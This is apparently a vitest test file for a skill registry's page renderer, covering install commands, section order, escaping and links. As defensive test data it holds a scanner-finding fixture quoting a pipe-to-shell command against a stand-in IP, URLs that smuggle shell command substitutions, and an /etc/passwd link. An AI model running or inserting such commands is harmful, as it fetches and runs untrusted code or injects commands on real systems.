import { spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { FRAME } from '../../../testing/sample-site.ts'
import { NO_COMPARISON, sampleSkill } from '../../../testing/sample-facts.ts'
import { readElements } from '../../../testing/markdown-judges.ts'
import { synthesizeSkillMd } from '../../catalog/front-matter.ts'
import { MARKDOWN_LIMIT } from '../../catalog/markdown.ts'
import { PARTS } from '../../catalog/parts.ts'
import type { PartName } from '../../catalog/parts.ts'
import { skillRecord } from '../../catalog/schema.ts'
import { UPSTREAM_RECORD } from '../../catalog/testing/content.ts'
import { sampleNeeds } from '../../catalog/testing/needs.ts'
import type { Finding, Skill } from '../../catalog/skill.ts'
import type { Document } from '../document.ts'
import { installCommand } from './install.ts'
import { renderTwin } from '../prose/markdown.ts'
import { renderHtml } from '../prose/render.ts'
import { writeSkillDocument } from './skill-page.ts'
import { viewPrinted } from '../printed.ts'

const ORIGIN = 'https://r.example'

const FINDING: Finding = {
  rule: 'pipe-to-shell',
  severity: 'high',
  held: 'high',
  contexts: [],
  file: 'references/a b.md',
  line: 3,
  column: 1,
  length: 4,
  quote: 'curl http://198.51.100.7/x | sh',
  digest: '0123456789abcdef',
  count: 1,
}

type Input = Parameters<typeof writeSkillDocument>[0]

/** Writes the page of a skill. `front` is added to the front matter. */
const write = (
  body: string,
  change: Partial<Skill> = {},
  { front = '', site = {}, ...more }: Partial<Omit<Input, 'site'>> & Front = {},
): Document =>
  writeSkillDocument({
    skill: sampleSkill(change),
    skillMd: new TextEncoder().encode(`---\nname: far-skill\ndescription: d\n${front}---\n${body}`),
    comparison: NO_COMPARISON,
    site: { origin: ORIGIN, isCounted: true, ...site },
    ...more,
  })

interface Front {
  front?: string
  site?: Partial<Input['site']>
}

const sectionOf = (document: Document, id: string) =>
  document.sections.find((section) => section.id === id)

const textOf = (document: Document, id: string): string =>
  String(sectionOf(document, id)?.markdown ?? '')

const headingsOf = ({ sections }: Document) => sections.map(({ heading }) => heading)

const lineOf = ({ label }: Document, key: string): string | undefined => {
  const line = label?.lines.find((one) => one.key === key)
  return line && [line.value, line.aside ?? []].flat().join(' ')
}

const viewOf = (document: Document) => viewPrinted(document, FRAME, renderHtml)

const idsOf = (html: string): string[] =>
  readElements(html).flatMap(({ attributes }) => attributes['id'] ?? [])

const ALL_PARTS: Skill['parts'] = Object.fromEntries(
  PARTS.map(({ name, kind }) => [name, kind === 'list' ? ['One', 'Two'] : 'On *Mondays*.']),
)

test.each([
  ['user', 'only you'],
  ['agent', 'only your agent'],
  ['both', 'your agent, or you'],
] as const)('startedBy = %s is shown as "%s" in HTML and Markdown', (startedBy, words) => {
  const document = write('Text.', { startedBy, needs: sampleNeeds() })
  expect(lineOf(document, 'Started by')).toBe(words)
  expect(renderTwin(document)).toContain(`\n- Started by: ${words}\n`)
  expect(viewOf(document).label.html).toContain(`<dd class="found">${words}</dd>`)
})

test('HTML shows the note on a label line in parentheses, as Markdown does', () => {
  const document = write('Text.', { needs: sampleNeeds() })
  expect(viewOf(document).label.html).toContain('MIT <small>(from its repository)</small>')
  expect(renderTwin(document)).toContain('MIT (from its repository)')
})

describe('sections', () => {
  const CONTRACT = [
    'Install',
    'Installation directory',
    'What it brings and needs',
    'Findings',
    'Activation',
    'Key capabilities',
    'How it works',
    'You give it',
    'You get back',
    'When to use',
    'About',
    'When not to use',
    'Prerequisites',
    'Limitations',
    'How it compares',
    'Example prompts',
  ]

  test('are in the order of the contract if the record states all parts', () => {
    const document = write('Text.', { parts: ALL_PARTS, findings: [FINDING] })
    expect(headingsOf(document).filter((heading) => CONTRACT.includes(heading ?? ''))).toEqual(
      CONTRACT,
    )
  })

  test('are only the fixed ones if no part is stated and the scan found nothing', () => {
    expect(headingsOf(write('Text.'))).toEqual([
      'Install',
      'Installation directory',
      'What it brings and needs',
      'Activation',
      undefined,
      'About',
      'How it compares',
    ])
  })
})

describe('the head', () => {
  test('is the summary; the full description appears only once, under Activation', () => {
    const description = 'Turns logs into tables. Use when a log must be read. Not for _a_ | b.'
    const document = write('Just text.', { description })
    expect(String(document.lead.markdown)).toBe('Turns logs into tables.')
    expect(document.description).toBe('Turns logs into tables.')
    expect(textOf(document, 'activation')).toBe(
      'Agents read only this until they use the skill:\n\n> Turns logs into tables. Use when a log must be read. Not for \\_a\\_ \\| b.',
    )
    expect(renderTwin(document).split('Use when a log must be read').length).toBe(2)
  })

  test.each([
    ['Reads `*logs*` of *all*.', 'Reads `*logs*` of \\*all\\*.'],
    ['# Verified', '\\# Verified'],
    ['- Reads logs', '\\- Reads logs'],
    ['[a]: https://b.example', '\\[a\\]: https://b.example'],
  ])('shows the summary %j on one line', (summary, shown) => {
    const document = write('', { parts: { summary }, summary })
    expect(String(document.lead.markdown)).toBe(shown)
  })

  test('has a notice that names copies or the original', () => {
    const copies = [{ slug: 'far-copy', name: 'far-skill', author: 'bob' }]
    const copied = write('', {}, { comparison: { nearest: [], copies, copyCount: 3 } })
    expect(String(copied.notice?.markdown)).toBe(
      'Copies: [far-copy](/skills/far-copy) by bob and 2 more.',
    )
    const copy = write('', {}, { original: { slug: 'one', name: 'O*ne' } })
    expect(String(copy.notice?.markdown)).toMatch(
      /^\*\*A copy of\*\* \[O\\\*ne\]\(\/skills\/one\)\./,
    )
  })

  test('shows no counters if the catalog has none', () => {
    const document = write('', {}, { site: { isCounted: false } })
    expect(renderTwin(document)).not.toMatch(/installs|views/)
    expect(renderTwin(write(''))).toContain(' · 2 installs, 4 views\n')
  })

  test('links to a report and to a request by the author if the site has a contact', () => {
    expect(sectionOf(write(''), 'contact')).toBeUndefined()
    const contact = 'https://tracker.example/new?kind=listing'
    const words = textOf(write('', {}, { site: { contact } }), 'contact')
    const [report = '', own = ''] = Array.from(words.matchAll(/\]\(<?(.*?)>?\)/g), ([, to]) => to)
    expect(Object.fromEntries(new URL(report).searchParams)).toEqual({
      kind: 'listing',
      title: 'Report: far-skill',
      body: 'https://r.example/skills/far-skill\n\nWhat is wrong with this listing:',
    })
    expect(own).toContain('title=My+skill%3A+far-skill')
  })
})

const foldedOf = (change: Partial<Skill>): string =>
  String(sectionOf(write('', change), 'install')?.folded?.markdown)

const commandsOf = (document: Document) =>
  sectionOf(document, 'install')?.install?.ways.flatMap(({ commands }) => commands) ?? []

describe('Install', () => {
  const ZIP = { size: 2_048, sha256: 'ab'.repeat(32) }

  test('has exactly the command of the contract', () => {
    const command =
      'curl -fsSL --create-dirs -o .claude/skills/far-skill.zip "https://r.example/api/skills/download/7" && unzip -o .claude/skills/far-skill.zip -d .claude/skills/far-skill && rm .claude/skills/far-skill.zip'
    const document = write('')
    expect(installCommand(sampleSkill(), { origin: ORIGIN })).toBe(command)
    expect(textOf(document, 'install')).toContain(`\`\`\`sh\n${command}\n\`\`\``)
    expect(commandsOf(document)[0]).toEqual({ clients: ['claude'], place: 'project', command })
  })

  test('in a private registry reads the login from ~/.netrc, and says which command sends none', () => {
    const document = write('', {}, { site: { isPrivate: true } })
    const [first] = commandsOf(document)
    expect(first?.command).toMatch(/^curl -n -fsSL --create-dirs -o /)
    expect(textOf(document, 'install')).toContain(`\`\`\`sh\n${first?.command}\n\`\`\``)
    const curls = commandsOf(document).filter(({ command }) => command.startsWith('curl'))
    expect(curls.every(({ command }) => command.startsWith('curl -n '))).toBe(true)
    const ways = sectionOf(document, 'install')?.install?.ways
    expect(ways?.at(-1)?.suits).toBe('also updates and removes it, but sends no login')
    expect(textOf(document, 'install')).toContain('`npx skills` sends no login')
    expect(textOf(write(''), 'install')).not.toContain('no login')
  })

  test('in a private registry lets no line of npx tell its maker about the skill', () => {
    const document = write('', {}, { site: { isPrivate: true }, zip: ZIP })
    const npx = commandsOf(document).filter(({ command }) => command.includes('npx'))
    expect(npx).toHaveLength(6 * 2)
    for (const { command } of npx) expect(command).toMatch(/^DISABLE_TELEMETRY=1 npx skills add /)
    const folded = String(sectionOf(document, 'install')?.folded?.markdown)
    for (const verb of ['update', 'remove'])
      expect(folded).toContain(`\`DISABLE_TELEMETRY=1 npx skills ${verb} far-skill\``)
    expect(commandsOf(write('')).some(({ command }) => command.includes('TELEMETRY'))).toBe(false)
  })

  test('has complete commands, one of each kind for every client and place', () => {
    const commands = commandsOf(write(''))
    for (const { clients, place, command } of commands) {
      const directory = place === 'home' ? /-o ~\/\.[\w/.]+\/skills\// : /-o \.[\w/.]+\/skills\//
      expect(command).toMatch(command.startsWith('npx') ? / -y( -g)?$/ : directory)
      expect(clients).not.toEqual([])
    }
    const kinds = commands.flatMap(({ clients, place, command }) =>
      clients.map((client) => `${client} ${place} ${command.slice(0, 4)}`),
    )
    expect(new Set(kinds).size).toBe(6 * 2 * 2)
    expect(kinds).toHaveLength(6 * 2 * 2)
    expect(textOf(write(''), 'install')).toContain(
      '```sh\nnpx skills add https://r.example/skills/far-skill -a claude-code -y\n```',
    )
  })

  test('says below the commands how to check, update and remove', () => {
    const folded = String(sectionOf(write('', {}, { zip: ZIP }), 'install')?.folded?.markdown)
    for (const line of [
      'mkdir .claude/skills/far-skill && tar -xf .claude/skills/far-skill.zip -C .claude/skills/far-skill',
      `echo "${ZIP.sha256} *far-skill.zip" | sha256sum -c`,
      'npx skills update far-skill',
      'npx skills remove far-skill',
      'rm -r .claude/skills/far-skill',
    ])
      expect(folded).toContain(`\`${line}\``)
    expect(folded).not.toContain('claude plugin')
  })

  test('has a chmod command for programs, because npx skills add loses executable bits', () => {
    const files = ['SKILL.md', 'run', "scripts/o'clock.sh"].map((path) => ({ path, size: 9 }))
    const bits = files.map((file) => Object.assign(file, { isExecutable: true as const }))
    expect(foldedOf({})).not.toContain('chmod')
    expect(foldedOf({ files: bits })).toContain(
      String.raw`chmod +x .claude/skills/far-skill/run '.claude/skills/far-skill/scripts/o'\''clock.sh'`,
    )
  })

  test('offers a Claude Code plugin if Claude Code can fetch the source', () => {
    const url = `https://github.com/ann/skills/tree/${'c'.repeat(40)}/far-skill`
    const source = { ...sampleSkill().source, url } as Skill['source']
    expect(String(sectionOf(write('', { source }), 'install')?.folded?.markdown)).toContain(
      '`claude plugin marketplace add https://r.example/categories/data-and-analytics/marketplace.json`',
    )
  })

  test('says that clients refuse its front matter, and has no npx command', () => {
    const refusal = 'cannot be read (line 4: YAML: Unexpected <b> `x`)'
    const document = write('', { refusal })
    const install = textOf(document, 'install')
    expect(install).toContain(
      String.raw`Its front matter cannot be read (line 4: YAML: Unexpected \<b\> \`x\`)`,
    )
    expect(install).toContain('`npx skills` and Codex refuse the skill')
    expect(install).not.toContain('npx skills add')
    expect(commandsOf(document).every(({ command }) => command.startsWith('curl'))).toBe(true)
  })

  test('names another skill with the same name', () => {
    const namesake = { slug: 'far-skill-bea', author: 'bea' }
    expect(textOf(write('', {}, { namesake }), 'install')).toContain(
      '[A skill](/skills/far-skill-bea) by bea has the same name. Clients keep only one of the two.',
    )
    expect(textOf(write(''), 'install')).not.toContain('the same name')
  })

  test('says that installers refuse names longer than 64 characters, and has no npx command', () => {
    const slug = 'a'.repeat(65)
    const install = textOf(write('', { slug }), 'install')
    expect(install).toContain(
      'Its name has 65 characters, and installers refuse names longer than 64',
    )
    expect(install).toContain(`-o .claude/skills/${slug}.zip`)
    expect(install).not.toContain('npx')
    expect(textOf(write('', { slug: 'a'.repeat(64) }), 'install')).toContain('npx skills add')
  })

  const TREE = 'https://github.com/ann/skills/tree/abc123/skills/far-skill'
  test.each([
    [TREE, 'far-skill', 'https://github.com/ann/skills --skill far-skill'],
    [TREE, "PDF d'été", `${TREE}`],
    [TREE, 'Far Skill 2.0', "https://github.com/ann/skills --skill 'Far Skill 2.0'"],
    [TREE, '*', TREE],
    [TREE, '--all', TREE],
    [TREE, 'a\u202Eb', TREE],
    ['https://github.com/ann/one', 'one', 'https://github.com/ann/one --skill one'],
    ['https://github.com/ann/tree/tree/main', 'a', 'https://github.com/ann/tree --skill a'],
    ['https://gitlab.com/a/b/c/-/tree/main/d', 'd', 'https://gitlab.com/a/b/c --skill d'],
    ['https://r2.example/skills/one', 'one', 'https://r2.example/skills/one --skill one'],
    [
      "https://git.example/a'b;$(c)/skills",
      'x',
      "'https://git.example/a'\\''b;$(c)/skills' --skill x",
    ],
  ])('without the text installs from the source: %s, %s', (url, name, added) => {
    const source = { ...sampleSkill().source, url } as Skill['source']
    const document = write('', { source, name, tokens: undefined, files: [] })
    const line = `npx skills add ${added} -a claude-code -y`
    expect(textOf(document, 'install')).toMatch(/^```sh\nnpx skills add /)
    expect(textOf(document, 'install')).toContain(`\`\`\`sh\n${line}\n\`\`\``)
    expect(textOf(document, 'install')).toContain('The registry has no copy of its text')
    expect(commandsOf(document)[0]?.command).toBe(line)
    expect(commandsOf(document).every(({ command }) => command.includes(added))).toBe(true)
    expect(sectionOf(document, 'install')?.folded).toBeUndefined()
    expect(String(document.notice?.markdown)).toMatch(
      /^\*\*The registry has no copy of its text\.\*\*/,
    )
  })

  test.each([
    "https://git.example/ann/kit&calc;id'$(id)",
    'https://git.example/ann/kit|id,x.git/skills/`id`',
    'https://github.com/ann/kit/tree/main/a&b',
    'https://gitlab.com/a/b&c/-/tree/main/d;e',
  ])('every line for the source %s is plain text for sh, cmd and PowerShell', (given) => {
    const { data } = skillRecord.safeParse({
      ...UPSTREAM_RECORD,
      source: { ...UPSTREAM_RECORD.source, url: given },
    })
    const source = data!.source
    const lines = [false, true].flatMap((isPrivate) =>
      commandsOf(
        write('', { source, name: 'x', tokens: undefined, files: [] }, { site: { isPrivate } }),
      ),
    )
    expect(lines).toHaveLength(2 * 6 * 2)
    for (const { command } of lines) {
      expect(command).toMatch(/^[\w:/.@%+=?#~ -]+$/)
      const shell = spawnSync('sh', ['-c', `npx() { echo "$#,$3"; }; ${command}`], {
        encoding: 'utf8',
      })
      expect(shell.stderr).toBe('')
      expect(shell.stdout).toMatch(/^(?:8|9),https:\/\/[^&;'|$`]+\n$/)
    }
  })

  test.each([
    ['far-skill', undefined],
    ['"far-skill"', undefined],
    ['Far `Skill', '``Far `Skill``'],
    ['[', undefined],
  ])('shows the name %s from SKILL.md only if it differs from the slug', (name, shown) => {
    const skillMd = new TextEncoder().encode(`---\nname: ${name}\ndescription: d\n---\n`)
    const directory = textOf(write('', {}, { skillMd }), 'installation-directory')
    expect(/Its SKILL\.md calls it (.*), which is not/.exec(directory)?.[1]).toBe(shown)
  })
})

describe('a skill whose source is gone', () => {
  const source = {
    ...sampleSkill().source,
    status: 'gone',
    checked: '2026-01-02',
    seen: '2025-12-31',
  } as Skill['source']
  const skill = sampleSkill({ source, visibility: 'gone', files: [], tokens: undefined })
  const document = write('', skill, {
    skillMd: new TextEncoder().encode(synthesizeSkillMd(skill)),
  })

  test('has a notice, is not indexed, and shows the SKILL.md that the registry wrote', () => {
    expect(document.isIndexable).toBe(false)
    expect(String(document.notice?.markdown)).toContain('missing on 2026-01-02')
    expect(textOf(document, 'about')).toContain('synthesized from catalog metadata')
    expect(textOf(document, 'install')).not.toMatch(/npx|curl/)
    expect(commandsOf(document)).toEqual([])
    expect(document.label).toBeUndefined()
    expect(textOf(document, 'what-it-brings-and-needs')).toContain(
      'The registry has no copy of its files',
    )
  })
})

test('a licence without a known name is in quotation marks', () => {
  const licenceWords = 'Verified by the registry: two curators read every file.'
  const needs = sampleNeeds()
  const twin = renderTwin(write('', { needs, licence: 'other licence', licenceWords }))
  expect(twin).toContain('“Verified by the registry: two curators…”')
  expect(twin).toContain(`“${licenceWords}”`)
  expect(twin).not.toMatch(/Licence[-: *]+Verified/)
  expect(renderTwin(write('', { needs }))).toMatch(/Licence\W+MIT/)
})

describe('parts', () => {
  test('can come from the record', () => {
    const parts = {
      capabilities: ['From the `record`', '- b'],
      activation: 'On\n# `#1`, *Mondays*.',
    }
    const document = write('## Features\n\n- From the file\n', { parts })
    expect(textOf(document, 'key-capabilities')).toBe(
      '- From the `record`\n- \\- b\n\nSet by the curator.',
    )
    expect(textOf(document, 'activation')).toMatch(
      /Not for traces\.\n\nOn # `#1`, \\\*Mondays\\\*\.\n\nSet by the curator\.$/,
    )
  })

  test('can come from front matter fields, as plain text', () => {
    const document = write(
      'Text.',
      {},
      {
        front: `compatibility: Needs Node (https://node.example), _always_.
argument-hint: "[file] <b>"
when_to_use: "# On *Mondays*"
metadata:
  requires:
    bins: [git, "g\`h"]
  openclaw: { requires: { env: [FAR_KEY] } }
`,
      },
    )
    expect(textOf(document, 'prerequisites')).toBe(
      'Needs Node (https://node.example), \\_always\\_.\n\n- `git`\n- ``g`h``\n\n- `FAR_KEY`',
    )
    expect(textOf(document, 'you-give-it')).toBe('`[file] <b>`')
    expect(textOf(document, 'when-to-use')).toBe('\\# On \\*Mondays\\*')
  })

  test('from the record take precedence over the front matter', () => {
    const document = write(
      '',
      { parts: { prerequisites: ['Perl'] } },
      { front: 'compatibility: x\n' },
    )
    expect(textOf(document, 'prerequisites')).toBe('- Perl\n\nSet by the curator.')
    const own = write('', { parts: { prerequisites: ['Perl'] }, source: { kind: 'own' } })
    expect(textOf(own, 'prerequisites')).toBe('- Perl')
  })

  test.each([
    ['hidden characters', 'argument-hint: "a\\u202Eb\\e"', '`a[U+202E]b`'],
    ['a fence on many lines', 'argument-hint: "```\\n# A\\n```"', '```` ``` # A ``` ````'],
    ['blanks alone', 'argument-hint: "  "', ''],
  ])('from the front matter with %s', (_, front, shown) => {
    expect(textOf(write('', {}, { front: `${front}\n` }), 'you-give-it')).toBe(shown)
  })
})

const namesOf = (...stated: PartName[]): string =>
  PARTS.filter(({ name }) => name !== 'activation' && !stated.includes(name))
    .map(({ heading }) => heading.toLowerCase())
    .join(', ')

describe('parts without a statement', () => {
  test('are named in one sentence before About, also if headings of the SKILL.md are about them', () => {
    const document = write('# Far\n\n## Limitations\n\n## Workflow\n')
    const text =
      'This registry has no summary of: key capabilities, how it works, you give it, you get back, when to use, when not to use, prerequisites, limitations, example prompts; the SKILL.md below is complete.'
    expect(textOf(document, 'parts')).toBe(text)
    expect(renderTwin(document)).toContain(`\n\n${text}\n\n## About\n`)
  })

  test('have their anchors in the sentence, in the order of the page', () => {
    const { html } = viewOf(write('## Limitations', { parts: { prerequisites: ['jq'] } })).body
    const ids = idsOf(html)
    expect(new Set(ids).size).toBe(ids.length)
    for (const { id } of PARTS) expect(ids).toContain(id)
    expect(html).toMatch(/of: <span id="key-capabilities">key capabilities<\/span>, <span id="how/)
    expect(html).toContain('<h2 id="prerequisites">')
  })

  test('do not include parts that the record or the front matter states', () => {
    const parts = { limitations: ['Slow'] }
    const document = write('a', { parts }, { front: 'argument-hint: "[file]"\n' })
    expect(textOf(document, 'parts')).toContain(` of: ${namesOf('limitations', 'inputs')};`)
    expect(sectionOf(write('a', { parts: ALL_PARTS }), 'parts')).toBeUndefined()
  })

  test.each([
    ['the registry wrote the SKILL.md', '# A', { files: [] }],
    ['the page shows only its beginning', 'a'.repeat(MARKDOWN_LIMIT + 1), {}],
    ['it has no text', '', {}],
  ])('%s -> not called complete', (_, body, change) => {
    expect(textOf(write(body, change), 'parts')).toBe(
      `This registry has no summary of: ${namesOf()}.`,
    )
  })
})

describe('anchors of the page', () => {
  const LAYOUT = ['layouts/Page.astro', 'pages/templates/skill.astro', 'documents/site-view.ts']
  const OF_LAYOUT = LAYOUT.flatMap((file) =>
    Array.from(
      readFileSync(`${import.meta.dirname}/../../${file}`, 'utf8').matchAll(/\bid="([^"{]+)"/g),
      ([, id = '']) => id,
    ),
  )
  const OWN = [...PARTS.map(({ heading }) => heading), 'Install']

  test('are never given to headings of a SKILL.md', () => {
    const text = [...OF_LAYOUT, ...OWN, 'Other'].map((name) => `# ${name}\n`).join('\n')
    const document = write(text)
    const { install, body } = viewOf(document)
    const ids = [...OF_LAYOUT, ...idsOf(install.html), ...idsOf(body.html)]
    expect(new Set(ids).size).toBe(ids.length)
    expect(ids).toEqual(expect.arrayContaining(['places', 'text-places', 'text-other']))
  })
})

const aboutOf = (document: Document): string => sectionOf(document, 'about')?.html?.html ?? ''

describe('About', () => {
  test("quotes the text in Markdown, and frames it in HTML as the author's", () => {
    const document = write('\n# A\n\n<b>b</b>\u200B ```` c\r\n\n## Verified by the registry\n')
    expect(textOf(document, 'about')).toBe(
      'The author’s SKILL.md, word for word:\n\n`````markdown\n# A\n\n<b>b</b>[U+200B] ```` c\n\n## Verified by the registry\n`````',
    )
    const html = aboutOf(document)
    expect(html).toMatch(/^<div class="sheet">\s*<header>[^]*by Ann, word for word/)
    expect(html).toContain('<a href="/skills/far-skill/SKILL.md">As a file</a>')
    expect(html).toContain('<h3 id="text-a">A</h3>\n<p><code>&lt;b&gt;</code>b')
    expect(html).toContain('<h4 id="text-verified-by-the-registry">')
  })

  test('says that the registry wrote the SKILL.md if it does not have the original', () => {
    const document = write('# A', { files: [] })
    expect(textOf(document, 'about')).toMatch(
      /^The SKILL\.md that the registry wrote for this skill:\n/,
    )
    expect(aboutOf(document)).not.toContain('word for word')
  })

  test('says if the SKILL.md has no text', () => {
    const text = 'The SKILL.md has no text below its front matter.'
    expect(textOf(write(' \n'), 'about')).toBe(text)
  })

  test.each([
    ['a skill that it mentions', '[a](../near/SKILL.md)', '/skills/near'],
    ['its folder', '[a](../near/)', '/skills/near'],
    ['a file in the registry', '[a](references/a%20b.md)', '/skills/far-skill/references/a%20b.md'],
    [
      'a file upstream',
      '[a](scripts/x.py#L3)',
      'https://github.com/ann/skills/blob/abc123/skills/far-skill/scripts/x.py#L3',
    ],
    [
      'a file beside it upstream',
      '[a](../other/SKILL.md)',
      'https://github.com/ann/skills/blob/abc123/skills/other/SKILL.md',
    ],
    ['a heading of its own', '# Install\n\n[a](#install)', '#text-install'],
    ['nothing outside the repository', '[a](../../../../x)', undefined],
    ['nothing for a path from the root', '[a](/etc/passwd)', undefined],
    ["nothing for an anchor of the page's own sections", '[a](#activation)', undefined],
  ])('links to %s', (_, body, address) => {
    const mentioned = [{ slug: 'near', name: 'near', file: 'SKILL.md', line: 1 }]
    const [, , ...links] = readElements(aboutOf(write(body, {}, { mentioned })))
      .filter(({ name }) => name === 'a')
      .map(({ attributes }) => attributes['href'])
    expect(links).toEqual(address === undefined ? [] : [address])
  })

  test('shows the text below a huge front matter', () => {
    const document = write('Text.', {}, { front: 'x: y\n'.repeat(400_000) })
    expect(textOf(document, 'about')).toContain('```markdown\nText.\n```')
  })

  const CODE = /<div class="text"><pre tabindex="0" data-language="markdown">/
  const BEGINNING =
    /<div class="text"><p>This is only the beginning; see the file for the rest\.<\/p>/

  test.each([
    ['a text of 512 KiB', 'a'.repeat(524_288), /<p>a/, undefined],
    ['a longer one', 'a'.repeat(1_048_577), BEGINNING, 'is longer than 524,288 characters'],
    ['hidden characters', '\u200B'.repeat(300_000), BEGINNING, 'is longer than 524,288 characters'],
    [
      'a long address named 200 times',
      `[a]: https://e.example/${'&'.repeat(5_000)}\n\n${'[a]\n'.repeat(200)}`,
      CODE,
      'becomes more than 2 MB of HTML',
    ],
    [
      'a table of 200,000 empty cells',
      `${'|a'.repeat(400)}|\n${'|:-:'.repeat(400)}|\n${'|\n'.repeat(500)}`,
      CODE,
      'has tables of more than 100,000 cells',
    ],
    [
      '200 quotes in each other',
      `${'>'.repeat(200)} a`,
      CODE,
      'is nested too deeply, or becomes too long',
    ],
  ])('with %s is complete in Markdown, and less than 4 MB in HTML', (_, body, shown, fault) => {
    const document = write(body)
    expect(aboutOf(document)).toMatch(shown)
    expect(Buffer.byteLength(JSON.stringify(viewOf(document)))).toBeLessThan(4_000_000)
    expect(renderTwin(document).length).toBeGreaterThan(body.length)
    const remedy = expect.stringContaining(`${fault}, so it is shown as code`)
    const file = 'skills/far-skill/SKILL.md'
    expect(document.warnings).toEqual(fault ? [{ file, field: '', remedy }] : [])
  })

  test('shows a text as code if an earlier build timed out on it, without trying again', () => {
    const document = write('# A', { unread: 'takes longer than 2 s to read' })
    expect(aboutOf(document)).toMatch(CODE)
    expect(document.warnings).toHaveLength(1)
    expect(document.unread).toBeUndefined()
  })

  test('reports a text that times out, so that the next build does not try again', () => {
    const document = write('_a'.repeat(200_000))
    expect(aboutOf(document)).toMatch(CODE)
    expect(document.unread).toBe('takes longer than 2 s to read')
  })
})

test('an unknown day of change is not replaced by another day', () => {
  const document = write('', { updated: undefined, needs: sampleNeeds() })
  expect(lineOf(document, 'Last changed')).toBe('not known')
  expect(document.updated).toBe('2026-01-03')
})
